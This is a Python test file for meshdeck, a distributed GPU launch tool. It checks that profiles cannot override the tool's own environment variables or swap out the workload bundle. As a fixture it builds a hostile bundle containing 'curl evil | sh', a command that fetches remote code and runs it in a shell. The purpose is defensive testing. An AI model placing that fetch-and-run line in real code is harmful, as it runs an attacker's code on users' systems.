"""A profile cannot change what meshdeck launches behind its dry run: env keys meshdeck sets itself are
refused, the files a command's dry run names are the ones inside what it sends, and `meshdeck launch`
reads its profile file once."""

from __future__ import annotations

import base64
import dataclasses
import json
import sys
import zlib
from pathlib import Path

import pytest
from launch_builders import make_node, make_profile
from meshdeck.cli import main
from meshdeck.core.errors import InputError
from meshdeck.launch.build import build_launch_plan
from meshdeck.launch.profile import load_profile
from meshdeck.launch.torch_launch import BUNDLE_ENV, BUNDLE_SHA_ENV

PROFILE = """\
name: tiny
model: tiny-deepseek
engine: torch
hosts: [gpu-a]
gpus_per_node: 2
layout: {tensor_parallel: 2}
torch: {script: tiny-deepseek}
"""


def _hostile_bundle() -> tuple[str, str]:
    import hashlib

    files = {"tiny_deepseek.py": "import os; os.system('curl evil | sh')\n"}
    blob = base64.b64encode(zlib.compress(json.dumps(files).encode())).decode("ascii")
    return blob, hashlib.sha256(blob.encode("ascii")).hexdigest()


@pytest.mark.parametrize(
    "key",
    [
        BUNDLE_ENV,
        BUNDLE_SHA_ENV,
        "MESHDECK_TENSOR_PARALLEL",
        "MESHDECK_ANYTHING_NEW",
        "meshdeck_workload_bundle",  # env names are case-sensitive on Linux, but nobody means a different one
        "VLLM_HOST_IP",  # set per node from the host's address (Ray)
        "VLLM_RAY_DP_PACK_STRATEGY",  # set from the layout (a DP replica spanning nodes)
    ],
)
def test_env_keys_meshdeck_sets_itself_are_refused_naming_key_and_file(key: str) -> None:
    blob, digest = _hostile_bundle()
    value = {BUNDLE_ENV: blob, BUNDLE_SHA_ENV: digest}.get(key, "1")
    with pytest.raises(InputError) as excinfo:
        load_profile(PROFILE + f"env: {{{key}: '{value}'}}\n", source="evil.yaml")
    message = str(excinfo.value)
    assert message.startswith(f"evil.yaml: env.{key}: "), message
    assert "meshdeck sets" in message


@pytest.mark.parametrize("key", ["NCCL_SOCKET_IFNAME", "GLOO_SOCKET_IFNAME", "NCCL_IB_HCA", "NCCL_DEBUG", "HF_HOME"])
def test_network_presets_and_ordinary_keys_stay_overridable(key: str, two_nodes: list) -> None:
    profile = make_profile(
        engine="torch", hosts=["gpu-a", "gpu-b"], gpus_per_node=1, layout={"tensor_parallel": 1, "data_parallel": 2},
        torch={"script": "collectives"}, env={key: "mine"},
    )  # fmt: skip
    for command in build_launch_plan(profile, two_nodes, run_id="r").commands:
        assert command.env_dict[key] == "mine"


def test_the_files_a_dry_run_names_are_the_ones_in_the_bundle_that_is_sent() -> None:
    """One value: a command's staged files are read from the bundle in its env, never kept beside it."""
    profile = load_profile(PROFILE)
    (command,) = build_launch_plan(profile, [make_node("gpu-a", "10.0.0.1")], run_id="r").commands
    assert [f.name for f in command.staged] == ["layout_mesh.py", "tiny_deepseek.py", "tiny_deepseek_model.py"]
    blob, digest = _hostile_bundle()
    env = tuple((k, {BUNDLE_ENV: blob, BUNDLE_SHA_ENV: digest}.get(k, v)) for k, v in command.env)
    swapped = dataclasses.replace(command, env=env)
    (shown,) = swapped.staged
    assert (shown.name, shown.size) == ("tiny_deepseek.py", len("import os; os.system('curl evil | sh')\n"))
    plan = dataclasses.replace(build_launch_plan(profile, [make_node("gpu-a", "10.0.0.1")], run_id="r"),
                               commands=(swapped,))  # fmt: skip
    assert [f["name"] for f in plan.dry_run()["nodes"][0]["staged_files"]] == ["tiny_deepseek.py"]


def test_launch_reads_its_profile_file_once(tmp_path: Path) -> None:
    """What is validated is what is stored with the deployment: one read, not a second `read_text`."""
    profile = tmp_path / "tiny.yaml"
    profile.write_text(PROFILE)
    opened: list[str] = []
    watching = True

    def audit(event: str, args: tuple) -> None:
        if watching and event == "open" and args and str(args[0]) == str(profile):
            opened.append(event)

    sys.addaudithook(audit)  # hooks cannot be removed; this one goes quiet after the test
    try:
        # the database path is a directory: the launch stops there, after everything it reads first
        (tmp_path / "db").mkdir()
        assert main(["--db", str(tmp_path / "db"), "launch", str(profile)]) != 0
    finally:
        watching = False
    assert len(opened) == 1, opened


def test_a_profile_that_skipped_validation_still_cannot_replace_the_workload() -> None:
    """meshdeck's own variables are laid after the profile's env and a clash is refused at build time too."""
    blob, digest = _hostile_bundle()
    valid = load_profile(PROFILE)
    unchecked = valid.model_copy(update={"env": {BUNDLE_ENV: blob, BUNDLE_SHA_ENV: digest}})  # no validation
    with pytest.raises(InputError, match=f"^env.{BUNDLE_ENV}: meshdeck sets"):
        build_launch_plan(unchecked, [make_node("gpu-a", "10.0.0.1")], run_id="r")
